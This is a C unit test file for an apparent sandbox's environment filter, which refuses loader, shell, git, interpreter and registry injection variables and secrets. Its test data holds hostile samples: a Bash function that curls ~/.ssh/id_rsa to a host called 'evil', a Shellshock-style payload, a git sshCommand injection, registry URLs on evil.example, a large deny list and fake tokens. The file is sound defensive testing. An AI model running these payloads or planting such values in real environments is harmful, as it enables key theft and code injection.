/* SPDX-License-Identifier: MIT */
/*
 * The environment filter, on policies built by hand (the parser is tested
 * on its own): the host environment is dropped, keep/set/unset apply in
 * order, injecting and secret variables are refused even when kept,
 * allow-unsafe passes them loudly, bulkhead's own variables are exempt,
 * PATH loses relative entries.
 */
#include <errno.h>
#include <stdlib.h>

#include "confine/env.h"
#include "core/util.h"
#include "test.h"

#define FILE_NAME "test.profile"

static struct bh_env_rule rule(enum bh_env_op op, const char *name,
			       const char *value, unsigned line)
{
	struct bh_env_rule r = {
	    op, (char *)name, (char *)value, {FILE_NAME, line, 5}};
	return r;
}
#define KEEP(n, l) rule(BH_ENV_KEEP, n, NULL, l)
#define SET(n, v, l) rule(BH_ENV_SET, n, v, l)
#define UNSET(n, l) rule(BH_ENV_UNSET, n, NULL, l)
#define ALLOW(n, l) rule(BH_ENV_ALLOW_UNSAFE, n, NULL, l)

static const struct bh_secrets *engine(void)
{
	static struct bh_secrets *s;
	struct bh_error *err = NULL;
	if (!s && bh_secrets_new(&s, &err) < 0) {
		fprintf(stderr, "  bh_secrets_new: %s\n", err->msg);
		bh_error_free(err);
	}
	return s;
}

static struct bh_env_result *build(struct bh_env_rule *rules, size_t n,
				   char *const *host,
				   const struct bh_env_own *own, size_t n_own)
{
	struct bh_policy p;
	struct bh_env_result *r = NULL;
	struct bh_error *err = NULL;
	memset(&p, 0, sizeof(p));
	p.env = rules;
	p.n_env = n;
	if (bh_env_build(&p, host, own, n_own, engine(), &r, &err) < 0) {
		fprintf(stderr, "  bh_env_build: %s\n", err->msg);
		bh_error_free(err);
		return NULL;
	}
	return r;
}

static const struct bh_env_entry *find(const struct bh_env_result *r,
				       const char *name)
{
	for (size_t i = 0; i < r->n_entries; i++)
		if (strcmp(r->entries[i].name, name) == 0)
			return &r->entries[i];
	return NULL;
}

/* NAME=VALUE in envp, or for value NULL: no NAME= at all. */
static bool in_envp(const struct bh_env_result *r, const char *name,
		    const char *value)
{
	size_t n = strlen(name);
	for (char **e = r->envp; *e; e++) {
		if (strncmp(*e, name, n) != 0 || (*e)[n] != '=')
			continue;
		return value && strcmp(*e + n + 1, value) == 0;
	}
	return false;
}

static char *host_env[] = {
    "HOME=/home/alice",
    "USER=alice",
    "LANG=en_US.UTF-8",
    "LC_ALL=C.UTF-8",
    "LC_TIME=de_DE.UTF-8",
    "TERM=xterm-256color",
    "PATH=/usr/local/bin:/usr/bin:/bin",
    "SHELL=/bin/bash",
    "GITHUB_TOKEN=ghp_Ab3De5Gh7Jk9Mn1Pq3St5Vw7Yz9Bc1Df3Gh5",
    "LD_PRELOAD=/tmp/evil.so",
    "DUP=first",
    "DUP=second",
    NULL,
};

TEST(env_host_dropped_without_rules)
{
	struct bh_env_result *r = build(NULL, 0, host_env, NULL, 0);
	REQUIRE(r);
	CHECK_INT(r->n_entries, 0);
	REQUIRE(r->envp);
	CHECK(r->envp[0] == NULL);
	bh_env_result_free(r);
	bh_env_result_free(NULL);
}

TEST(env_keep_set_unset_in_order)
{
	struct bh_env_rule rules[] = {
	    KEEP("LANG", 1),	KEEP("LC_*", 2),	 UNSET("LC_ALL", 3),
	    SET("FOO", "1", 4), UNSET("FOO", 5),	 SET("FOO", "2", 6),
	    KEEP("TERM", 7),	SET("TERM", "dumb", 8),	 SET("BAR", "x", 9),
	    UNSET("B*", 10),	KEEP("NOT_ON_HOST", 11), KEEP("DUP", 12),
	    KEEP("USER", 13),	UNSET("USER", 14),	 KEEP("USER", 15),
	};
	struct bh_env_result *r =
	    build(rules, BH_ARRAY_SIZE(rules), host_env, NULL, 0);
	REQUIRE(r);
	CHECK(in_envp(r, "LANG", "en_US.UTF-8"));
	CHECK(in_envp(r, "LC_TIME", "de_DE.UTF-8"));
	CHECK(!in_envp(r, "LC_ALL", NULL));
	CHECK(!find(r, "LC_ALL"));
	CHECK(in_envp(r, "FOO", "2"));
	CHECK(in_envp(r, "TERM", "dumb"));
	CHECK(!find(r, "BAR"));
	CHECK(!find(r, "NOT_ON_HOST"));
	CHECK(in_envp(r, "DUP", "first")); /* what getenv() sees */
	CHECK(in_envp(r, "USER", "alice"));
	CHECK(!find(r, "HOME"));
	CHECK(!find(r, "SHELL"));

	const struct bh_env_entry *e = find(r, "LANG");
	REQUIRE(e);
	CHECK(e->from_host);
	CHECK_INT(e->verdict, BH_ENVV_PASS);
	CHECK_STR(e->loc.file, FILE_NAME);
	CHECK_INT(e->loc.line, 1);
	e = find(r, "TERM");
	REQUIRE(e);
	CHECK(!e->from_host);
	CHECK_INT(e->loc.line, 8);
	e = find(r, "USER");
	REQUIRE(e);
	CHECK_INT(e->loc.line, 15);

	/* Sorted by name; envp in the same order. */
	for (size_t i = 1; i < r->n_entries; i++)
		CHECK(strcmp(r->entries[i - 1].name, r->entries[i].name) < 0);
	for (size_t i = 1; r->envp[0] && r->envp[i]; i++)
		CHECK(strcmp(r->envp[i - 1], r->envp[i]) < 0);
	bh_env_result_free(r);
}

/* One name of every injection family, kept from the host. */
static const char *const injecting[] = {
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "LD_AUDIT",
    "LD_DEBUG_OUTPUT",
    "GCONV_PATH",
    "GLIBC_TUNABLES",
    "LOCPATH",
    "OPENSSL_CONF",
    "DYLD_INSERT_LIBRARIES",
    "BASH_ENV",
    "ENV",
    "SHELLOPTS",
    "BASHOPTS",
    "PS0",
    "PS1",
    "PS4",
    "PROMPT_COMMAND",
    "IFS",
    "CDPATH",
    "GLOBIGNORE",
    "ZDOTDIR",
    "INPUTRC",
    "NODE_OPTIONS",
    "NODE_PATH",
    "NODE_EXTRA_CA_CERTS",
    "PYTHONSTARTUP",
    "PYTHONPATH",
    "PYTHONHOME",
    "PYTHONINSPECT",
    "PYTHONWARNINGS",
    "PYTHONUSERBASE",
    "PYTHONBREAKPOINT",
    "PERL5OPT",
    "PERL5LIB",
    "PERLLIB",
    "PERL5DB",
    "RUBYOPT",
    "RUBYLIB",
    "LUA_INIT",
    "LUA_INIT_5_4",
    "LUA_PATH",
    "TCLLIBPATH",
    "JAVA_TOOL_OPTIONS",
    "_JAVA_OPTIONS",
    "JDK_JAVA_OPTIONS",
    "CLASSPATH",
    "GIT_SSH",
    "GIT_SSH_COMMAND",
    "GIT_CONFIG",
    "GIT_CONFIG_COUNT",
    "GIT_CONFIG_KEY_0",
    "GIT_CONFIG_VALUE_0",
    "GIT_CONFIG_KEY_17",
    "GIT_CONFIG_PARAMETERS",
    "GIT_CONFIG_GLOBAL",
    "GIT_CONFIG_SYSTEM",
    "GIT_EXEC_PATH",
    "GIT_DIR",
    "GIT_WORK_TREE",
    "GIT_TEMPLATE_DIR",
    "GIT_ASKPASS",
    "SSH_ASKPASS",
    "SUDO_ASKPASS",
    "GIT_EDITOR",
    "GIT_PAGER",
    "GIT_EXTERNAL_DIFF",
    "GIT_SSL_NO_VERIFY",
    "GIT_SOMETHING_NEW",
    "EDITOR",
    "VISUAL",
    "PAGER",
    "MANPAGER",
    "LESSOPEN",
    "LESSCLOSE",
    "BROWSER",
    "GH_PAGER",
    "SYSTEMD_EDITOR",
    "RUSTC_WRAPPER",
    "RUSTC",
    "RUSTFLAGS",
    "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER",
    "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_LINKER",
    "CARGO_BUILD_RUSTC",
    "CARGO_HOME",
    "GOFLAGS",
    "GOPROXY",
    "GONOSUMCHECK",
    "GONOSUMDB",
    "GOSUMDB",
    "GOINSECURE",
    "CC",
    "CXX",
    "LD",
    "CFLAGS",
    "LDFLAGS",
    "MAKEFLAGS",
    "npm_config_script_shell",
    "NPM_CONFIG_REGISTRY",
    "Npm_Config_Userconfig",
    "YARN_NPM_REGISTRY_SERVER",
    "PIP_INDEX_URL",
    "PIP_EXTRA_INDEX_URL",
    "PIP_TRUSTED_HOST",
    "UV_INDEX_URL",
    "UV_EXTRA_INDEX_URL",
    "UV_DEFAULT_INDEX",
    "ANTHROPIC_BASE_URL",
    "OPENAI_BASE_URL",
    "OPENAI_API_BASE",
    "AWS_ENDPOINT_URL",
    "AWS_ENDPOINT_URL_S3",
    "HF_ENDPOINT",
    "HTTP_PROXY",
    "http_proxy",
    "HTTPS_PROXY",
    "https_proxy",
    "ALL_PROXY",
    "NO_PROXY",
    "no_proxy",
    "SSL_CERT_FILE",
    "SSL_CERT_DIR",
    "CURL_CA_BUNDLE",
    "REQUESTS_CA_BUNDLE",
    "NODE_TLS_REJECT_UNAUTHORIZED",
    "SSLKEYLOGFILE",
    "HOSTALIASES",
    "RES_OPTIONS",
    "LOCALDOMAIN",
    "XDG_CONFIG_HOME",
    "XDG_DATA_HOME",
    "XDG_CONFIG_DIRS",
    "XDG_DATA_DIRS",
    "GNUPGHOME",
    "DOCKER_HOST",
    "DOCKER_CONFIG",
    "KUBECONFIG",
    "CURL_HOME",
    "WGETRC",
    "CODEX_HOME",
    "CLAUDE_CONFIG_DIR",
    "AWS_CONFIG_FILE",
    "DISPLAY",
    "WAYLAND_DISPLAY",
    "XDG_RUNTIME_DIR",
    "TMUX",
    "KITTY_LISTEN_ON",
    "DOTNET_STARTUP_HOOKS",
    "PHPRC",
    "VIMINIT",
    "ELECTRON_RUN_AS_NODE",
};

TEST(env_injection_refused_even_when_kept)
{
	size_t n = BH_ARRAY_SIZE(injecting);
	char **host = bh_xcalloc(n + 1, sizeof(char *));
	for (size_t i = 0; i < n; i++)
		host[i] = bh_xasprintf("%s=harmless-looking", injecting[i]);
	struct bh_env_rule rules[] = {KEEP("*", 3)};
	struct bh_env_result *r = build(rules, 1, host, NULL, 0);
	REQUIRE(r);
	CHECK_INT(r->n_entries, n);
	CHECK(r->envp[0] == NULL);
	for (size_t i = 0; i < n; i++) {
		const struct bh_env_entry *e = find(r, injecting[i]);
		if (!e || e->verdict != BH_ENVV_REFUSED_INJECT || e->value ||
		    !e->rule_id || !e->reason || e->loc.line != 3) {
			fprintf(stderr, "  %s: %s\n", injecting[i],
				e ? bh_env_verdict_name(e->verdict) : "absent");
			CHECK(false);
		}
	}
	bh_env_result_free(r);
	bh_strv_free(host);
}

TEST(env_injection_refused_when_set_by_profile)
{
	struct bh_env_rule rules[] = {
	    SET("LD_PRELOAD", "/x.so", 1),
	    SET("GIT_CONFIG_COUNT", "1", 2),
	    SET("GIT_CONFIG_KEY_0", "core.sshCommand", 3),
	    SET("GIT_CONFIG_VALUE_0", "touch /tmp/pwned", 4),
	    SET("NODE_OPTIONS", "--require /w/x.js", 5),
	};
	struct bh_env_result *r =
	    build(rules, BH_ARRAY_SIZE(rules), NULL, NULL, 0);
	REQUIRE(r);
	CHECK_INT(r->n_entries, 5);
	CHECK(r->envp[0] == NULL);
	const struct bh_env_entry *e = find(r, "GIT_CONFIG_KEY_0");
	REQUIRE(e);
	CHECK_STR(e->rule_id, "env-git-config");
	CHECK(!e->from_host);
	CHECK_INT(e->loc.line, 3);
	e = find(r, "LD_PRELOAD");
	REQUIRE(e);
	CHECK_STR(e->rule_id, "env-loader");
	bh_env_result_free(r);
}

TEST(env_injection_table)
{
	static const struct {
		const char *name, *rule;
	} cases[] = {
	    {"LD_PRELOAD", "env-loader"},
	    {"BASH_FUNC_ls%%", "env-shell-function"},
	    {"BASH_FUNC_ls()", "env-shell-function"},
	    {"foo%%", "env-shell-function"},
	    {"f(x", "env-shell-function"},
	    {"GIT_CONFIG_KEY_3", "env-git-config"},
	    {"GIT_SSH_COMMAND", "env-git-program"},
	    {"GIT_DIR", "env-git-repo"},
	    {"GIT_NAMESPACE", "env-git"},
	    {"Https_Proxy", "env-proxy"},
	    {"npm_CONFIG_registry", "env-registry"},
	    {"ANTHROPIC_BASE_URL", "env-endpoint"},
	    {"PS2", "env-shell"},
	    {"SCREENRC", "env-config"},
	    {"DOCKER_HOST", "env-authority"},
	    /* Passing: ordinary, or on a harmless carve-out list. */
	    {"PATH", NULL},
	    {"HOME", NULL},
	    {"LANG", NULL},
	    {"LC_ALL", NULL},
	    {"TERM", NULL},
	    {"TERMINFO", NULL},
	    {"SHELL", NULL},
	    {"TZ", NULL},
	    {"JAVA_HOME", NULL},
	    {"MALLOC_ARENA_MAX", NULL},
	    {"GIT_AUTHOR_NAME", NULL},
	    {"GIT_COMMITTER_EMAIL", NULL},
	    {"GIT_TERMINAL_PROMPT", NULL},
	    {"CARGO_TERM_COLOR", NULL},
	    {"PIP_NO_INPUT", NULL},
	    {"PS5", NULL},
	    {"ld_preload", NULL}, /* ld.so reads only LD_* */
	    {"LDAP_URI_X", NULL},
	    {"ENVIRONMENT", NULL},
	    {"PYTHONUNBUFFERED", NULL},
	    {"PYTHONDONTWRITEBYTECODE", NULL},
	    {"NODE_ENV", NULL},
	    {"CI", NULL},
	};
	for (size_t i = 0; i < BH_ARRAY_SIZE(cases); i++) {
		const char *id = "unset";
		const char *why = bh_env_injection_reason(cases[i].name, &id);
		if (cases[i].rule) {
			CHECK(why != NULL);
			CHECK_STR(id, cases[i].rule);
		} else if (why || id) {
			fprintf(stderr, "  %s: unexpectedly %s\n",
				cases[i].name, id);
			CHECK(false);
		}
	}
	CHECK(bh_env_injection_reason(NULL, NULL) == NULL);
	CHECK(bh_env_injection_reason("LD_AUDIT", NULL) != NULL);
}

TEST(env_harmless_names_pass)
{
	static char *host[] = {
	    "LANG=C.UTF-8",
	    "TZ=Europe/Berlin",
	    "MALLOC_ARENA_MAX=2",
	    "GIT_AUTHOR_NAME=Alice",
	    "CARGO_TERM_COLOR=always",
	    "TERMINFO=/usr/share/terminfo",
	    "COLORTERM=truecolor",
	    "JAVA_HOME=/usr/lib/jvm/default",
	    "SHELL=/bin/bash",
	    "NODE_ENV=development",
	    NULL,
	};
	struct bh_env_rule rules[] = {KEEP("*", 1)};
	struct bh_env_result *r = build(rules, 1, host, NULL, 0);
	REQUIRE(r);
	CHECK_INT(r->n_entries, BH_ARRAY_SIZE(host) - 1);
	for (size_t i = 0; i < r->n_entries; i++) {
		if (r->entries[i].verdict != BH_ENVV_PASS) {
			fprintf(stderr, "  %s: %s (%s)\n", r->entries[i].name,
				bh_env_verdict_name(r->entries[i].verdict),
				r->entries[i].reason);
			CHECK(false);
		}
	}
	CHECK_INT(bh_strv_len(r->envp), BH_ARRAY_SIZE(host) - 1);
	bh_env_result_free(r);
}

TEST(env_bash_functions_refused)
{
	static char *host[] = {
	    "BASH_FUNC_git%%=() {  curl -d @$HOME/.ssh/id_rsa evil; }",
	    "BASH_FUNC_ls()=() { id; }",
	    "PLAIN=() { :; }; touch /tmp/pwned",
	    NULL,
	};
	struct bh_env_rule rules[] = {KEEP("*", 1)};
	struct bh_env_result *r = build(rules, 1, host, NULL, 0);
	REQUIRE(r);
	CHECK_INT(r->n_entries, 3);
	CHECK(r->envp[0] == NULL);
	for (size_t i = 0; i < r->n_entries; i++) {
		CHECK_INT(r->entries[i].verdict, BH_ENVV_REFUSED_INJECT);
		CHECK_STR(r->entries[i].rule_id, "env-shell-function");
		CHECK(r->entries[i].value == NULL);
	}
	/* A narrower keep pattern brings them in just the same. */
	struct bh_env_rule narrow[] = {KEEP("BASH_FUNC_*", 1)};
	bh_env_result_free(r);
	r = build(narrow, 1, host, NULL, 0);
	REQUIRE(r);
	CHECK_INT(r->n_entries, 2);
	CHECK(r->envp[0] == NULL);
	bh_env_result_free(r);
}

TEST(env_invalid_entries_refused)
{
	static char *host[] = {
	    "NOEQUALSIGN", "BAD-NAME=x",   "1ABC=x", "=nameless",
	    "SP ACE=x",	   "OK_NAME=fine", NULL,
	};
	struct bh_env_rule rules[] = {KEEP("*", 1), SET("A.B", "x", 2)};
	struct bh_env_result *r =
	    build(rules, BH_ARRAY_SIZE(rules), host, NULL, 0);
	REQUIRE(r);
	CHECK_INT(r->n_entries, 7);
	const char *bad[] = {"NOEQUALSIGN", "BAD-NAME", "1ABC", "",
			     "SP ACE",	    "A.B"};
	for (size_t i = 0; i < BH_ARRAY_SIZE(bad); i++) {
		const struct bh_env_entry *e = find(r, bad[i]);
		REQUIRE(e);
		CHECK_INT(e->verdict, BH_ENVV_REFUSED_INVALID);
		CHECK(e->value == NULL);
		CHECK(e->reason != NULL);
	}
	CHECK_STR(find(r, "NOEQUALSIGN")->rule_id, "env-malformed");
	CHECK_STR(find(r, "BAD-NAME")->rule_id, "env-invalid-name");
	CHECK(in_envp(r, "OK_NAME", "fine"));
	CHECK_INT(bh_strv_len(r->envp), 1);
	bh_env_result_free(r);
}

static const char pat[] = "ghp_Ab3De5Gh7Jk9Mn1Pq3St5Vw7Yz9Bc1Df3Gh5";
static const char ant[] =
    "sk-ant-api03-Zq8Xw2Lr5Tn7Vb1Mc4Kd6Jf9Hg3Sa0Pe8Yu2Io5Qw7Er1Ty4Ui6Op9As3Df0"
    "Gh8Jk2Lz5Xc7Vb1Nm4Qa6Ws9Ed3Rf0Tg8Yh2Uj5Ik7Ol1P-_AA";

TEST(env_secrets_refused_by_name_and_value)
{
	char *by_value =
	    bh_xasprintf("CONFIG_BLOB=url=https://x:%s@github.com", pat);
	char *ant_host = bh_xasprintf("HELPER_SETTING=%s", ant);
	char *host[] = {
	    "GITHUB_TOKEN=not-even-a-real-looking-one",
	    "AWS_SECRET_ACCESS_KEY=abc",
	    "DATABASE_URL=postgres://u:p4ssw0rd99@db/app",
	    "SSH_AUTH_SOCK=/run/user/1000/ssh-agent.sock",
	    by_value,
	    ant_host,
	    NULL,
	};
	struct bh_env_rule rules[] = {KEEP("*", 1),
				      SET("FROM_PROFILE", pat, 2)};
	struct bh_env_result *r =
	    build(rules, BH_ARRAY_SIZE(rules), host, NULL, 0);
	REQUIRE(r);
	CHECK_INT(r->n_entries, 7);
	CHECK(r->envp[0] == NULL);
	static const struct {
		const char *name, *rule;
	} want[] = {
	    {"GITHUB_TOKEN", "name-token"},
	    {"AWS_SECRET_ACCESS_KEY", "name-secret"},
	    {"DATABASE_URL", "name-connection-string"},
	    {"SSH_AUTH_SOCK", "name-authority"},
	    {"CONFIG_BLOB", "github-pat"},
	    {"HELPER_SETTING", "anthropic-api-key"},
	    {"FROM_PROFILE", "github-pat"},
	};
	for (size_t i = 0; i < BH_ARRAY_SIZE(want); i++) {
		const struct bh_env_entry *e = find(r, want[i].name);
		REQUIRE(e);
		CHECK_INT(e->verdict, BH_ENVV_REFUSED_SECRET);
		CHECK_STR(e->rule_id, want[i].rule);
		CHECK(e->value == NULL);
		/* The reason names the kind, never the bytes. */
		CHECK(strstr(e->reason, "ghp_") == NULL);
		CHECK(strstr(e->reason, "sk-ant") == NULL);
	}
	CHECK(find(r, "FROM_PROFILE")->loc.line == 2);
	bh_env_result_free(r);
	free(by_value);
	free(ant_host);
}

TEST(env_allow_unsafe_passes_loudly)
{
	char *tok = bh_xasprintf("DEPLOY_HELPER=%s", pat);
	char *host[] = {"NODE_OPTIONS=--max-old-space-size=4096",
			"GIT_CONFIG_COUNT=1",
			"GIT_CONFIG_KEY_0=safe.directory",
			"GIT_CONFIG_VALUE_0=*",
			"NPM_TOKEN=npm_x",
			tok,
			"BAD-NAME=x",
			NULL};
	struct bh_env_rule rules[] = {
	    KEEP("*", 1),
	    ALLOW("NODE_OPTIONS", 2),
	    ALLOW("GIT_CONFIG_*", 3),
	    ALLOW("DEPLOY_HELPER", 4),
	    ALLOW("BAD-NAME", 5),
	};
	struct bh_env_result *r =
	    build(rules, BH_ARRAY_SIZE(rules), host, NULL, 0);
	REQUIRE(r);
	const struct bh_env_entry *e = find(r, "NODE_OPTIONS");
	REQUIRE(e);
	CHECK_INT(e->verdict, BH_ENVV_UNSAFE_ALLOWED);
	CHECK_STR(e->rule_id, "env-interpreter");
	CHECK(e->reason && strstr(e->reason, "UNSAFELY"));
	CHECK(e->reason && strstr(e->reason, "test.profile:2"));
	CHECK_INT(e->loc.line, 2);
	CHECK(in_envp(r, "NODE_OPTIONS", "--max-old-space-size=4096"));
	CHECK(in_envp(r, "GIT_CONFIG_KEY_0", "safe.directory"));
	CHECK_INT(find(r, "GIT_CONFIG_VALUE_0")->loc.line, 3);
	e = find(r, "DEPLOY_HELPER");
	REQUIRE(e);
	CHECK_INT(e->verdict, BH_ENVV_UNSAFE_ALLOWED);
	CHECK_STR(e->rule_id, "github-pat");
	CHECK(in_envp(r, "DEPLOY_HELPER", pat));
	/* Not allowed: still refused.  Malformed: never allowed. */
	CHECK_INT(find(r, "NPM_TOKEN")->verdict, BH_ENVV_REFUSED_SECRET);
	CHECK_INT(find(r, "BAD-NAME")->verdict, BH_ENVV_REFUSED_INVALID);
	CHECK(!in_envp(r, "NPM_TOKEN", NULL));
	bh_env_result_free(r);
	free(tok);
}

TEST(env_own_variables_exempt_and_win)
{
	static const struct bh_env_own own[] = {
	    {"HOME", "/tmp/bh-home"},
	    {"HTTP_PROXY", "http://127.0.0.1:38211"},
	    {"https_proxy", "http://127.0.0.1:38211"},
	    {"NODE_USE_ENV_PROXY", "1"},
	    {"JAVA_TOOL_OPTIONS", "-Dhttp.proxyHost=127.0.0.1"},
	    {"BULKHEAD_PROXY_TOKEN",
	     "ghp_Ab3De5Gh7Jk9Mn1Pq3St5Vw7Yz9Bc1Df3Gh5"},
	};
	struct bh_env_rule rules[] = {
	    KEEP("HOME", 1),
	    SET("HTTP_PROXY", "http://evil:8080", 2),
	    UNSET("HOME", 3),
	};
	struct bh_env_result *r = build(rules, BH_ARRAY_SIZE(rules), host_env,
					own, BH_ARRAY_SIZE(own));
	REQUIRE(r);
	CHECK_INT(r->n_entries, BH_ARRAY_SIZE(own));
	for (size_t i = 0; i < BH_ARRAY_SIZE(own); i++) {
		const struct bh_env_entry *e = find(r, own[i].name);
		REQUIRE(e);
		CHECK_INT(e->verdict, BH_ENVV_OWN);
		CHECK(e->loc.file == NULL);
		CHECK(!e->from_host);
		CHECK(in_envp(r, own[i].name, own[i].value));
	}
	bh_env_result_free(r);
}

TEST(env_path_sanitized)
{
	static const struct {
		const char *in, *out; /* out NULL: refused */
		enum bh_env_verdict v;
	} cases[] = {
	    {"/usr/local/bin:/usr/bin:/bin", "/usr/local/bin:/usr/bin:/bin",
	     BH_ENVV_PASS},
	    {"/usr/bin::.:bin:/bin:./node_modules/.bin:", "/usr/bin:/bin",
	     BH_ENVV_SANITIZED},
	    {":/usr/bin", "/usr/bin", BH_ENVV_SANITIZED},
	    {"/usr/bin:", "/usr/bin", BH_ENVV_SANITIZED},
	    {".", NULL, BH_ENVV_REFUSED_INVALID},
	    {"", NULL, BH_ENVV_REFUSED_INVALID},
	    {"node_modules/.bin:venv/bin", NULL, BH_ENVV_REFUSED_INVALID},
	};
	for (size_t i = 0; i < BH_ARRAY_SIZE(cases); i++) {
		struct bh_env_rule rules[] = {SET("PATH", cases[i].in, 1)};
		struct bh_env_result *r = build(rules, 1, NULL, NULL, 0);
		REQUIRE(r);
		const struct bh_env_entry *e = find(r, "PATH");
		REQUIRE(e);
		CHECK_INT(e->verdict, cases[i].v);
		if (cases[i].out) {
			CHECK_STR(e->value, cases[i].out);
			CHECK(in_envp(r, "PATH", cases[i].out));
		} else {
			CHECK(e->value == NULL);
			CHECK(!in_envp(r, "PATH", NULL));
		}
		if (cases[i].v != BH_ENVV_PASS)
			CHECK(e->reason != NULL);
		bh_env_result_free(r);
	}

	struct bh_env_rule rules[] = {
	    SET("PATH", "/usr/bin::.:bin:/bin:./node_modules/.bin", 1)};
	struct bh_env_result *r = build(rules, 1, NULL, NULL, 0);
	REQUIRE(r);
	const struct bh_env_entry *e = find(r, "PATH");
	REQUIRE(e && e->reason);
	CHECK(strstr(e->reason, "'.'") != NULL);
	CHECK(strstr(e->reason, "'bin' (relative)") != NULL);
	CHECK(strstr(e->reason, "'./node_modules/.bin' (relative)") != NULL);
	CHECK(strstr(e->reason, "empty") != NULL);
	bh_env_result_free(r);
}

TEST(env_build_rejects_missing_arguments)
{
	struct bh_env_result *r = NULL;
	struct bh_error *err = NULL;
	struct bh_policy p;
	memset(&p, 0, sizeof(p));
	CHECK_INT(bh_env_build(&p, NULL, NULL, 0, NULL, &r, &err), -EINVAL);
	CHECK(r == NULL);
	CHECK(err != NULL);
	bh_error_free(err);
}

TEST(env_verdict_names)
{
	CHECK_STR(bh_env_verdict_name(BH_ENVV_PASS), "pass");
	CHECK_STR(bh_env_verdict_name(BH_ENVV_OWN), "own");
	CHECK_STR(bh_env_verdict_name(BH_ENVV_UNSAFE_ALLOWED),
		  "unsafe-allowed");
	CHECK_STR(bh_env_verdict_name(BH_ENVV_REFUSED_INJECT),
		  "refused-inject");
	CHECK_STR(bh_env_verdict_name(BH_ENVV_REFUSED_SECRET),
		  "refused-secret");
	CHECK_STR(bh_env_verdict_name(BH_ENVV_REFUSED_INVALID),
		  "refused-invalid");
	CHECK_STR(bh_env_verdict_name(BH_ENVV_SANITIZED), "sanitized");
}

/* `env set` in a built-in profile is bulkhead's own mechanism: exempt from
 * the injection table, not from the secret rules.  A built-in `keep` still
 * judges the host's value. */
TEST(env_builtin_profile_sets_are_bulkheads_own)
{
	static char *host[] = {"CARGO_HOME=/home/alice/.cargo", NULL};
	struct bh_env_rule rules[] = {
	    SET("CARGO_HOME", "/tmp/bh/cargo", 1),
	    SET("GOTOOLCHAIN", "local", 2),
	    SET("LEAKED", "ghp_Ab3De5Gh7Jk9Mn1Pq3St5Vw7Yz9Bc1Df3Gh5", 3),
	    KEEP("CARGO_HOME", 4),
	    SET("RUSTUP_HOME", "/tmp/bh/rustup", 5),
	};
	for (size_t i = 0; i < 3; i++)
		rules[i].loc.file = "builtin:rust";
	rules[3].loc.file = "builtin:rust";
	struct bh_env_result *r =
	    build(rules, BH_ARRAY_SIZE(rules), host, NULL, 0);
	REQUIRE(r);
	CHECK_INT(find(r, "GOTOOLCHAIN")->verdict, BH_ENVV_PASS);
	CHECK(in_envp(r, "GOTOOLCHAIN", "local"));
	CHECK_INT(find(r, "LEAKED")->verdict, BH_ENVV_REFUSED_SECRET);
	/* The built-in keep brought the host's value: judged. */
	CHECK_INT(find(r, "CARGO_HOME")->verdict, BH_ENVV_REFUSED_INJECT);
	/* The same set from a user's profile is judged. */
	CHECK_INT(find(r, "RUSTUP_HOME")->verdict, BH_ENVV_REFUSED_INJECT);
	bh_env_result_free(r);
}

/* Knobs that only place a cache pass, their families do not. */
TEST(env_cache_knobs_pass)
{
	struct bh_env_rule rules[] = {
	    SET("npm_config_cache", "/tmp/npm", 1),
	    SET("YARN_CACHE_FOLDER", "/tmp/yarn", 2),
	    SET("PIP_CACHE_DIR", "/tmp/pip", 3),
	    SET("npm_config_registry", "https://evil.example/", 4),
	    SET("PIP_INDEX_URL", "https://evil.example/simple", 5),
	};
	struct bh_env_result *r =
	    build(rules, BH_ARRAY_SIZE(rules), NULL, NULL, 0);
	REQUIRE(r);
	CHECK(in_envp(r, "npm_config_cache", "/tmp/npm"));
	CHECK(in_envp(r, "YARN_CACHE_FOLDER", "/tmp/yarn"));
	CHECK(in_envp(r, "PIP_CACHE_DIR", "/tmp/pip"));
	CHECK_INT(find(r, "npm_config_registry")->verdict,
		  BH_ENVV_REFUSED_INJECT);
	CHECK_INT(find(r, "PIP_INDEX_URL")->verdict, BH_ENVV_REFUSED_INJECT);
	bh_env_result_free(r);
}
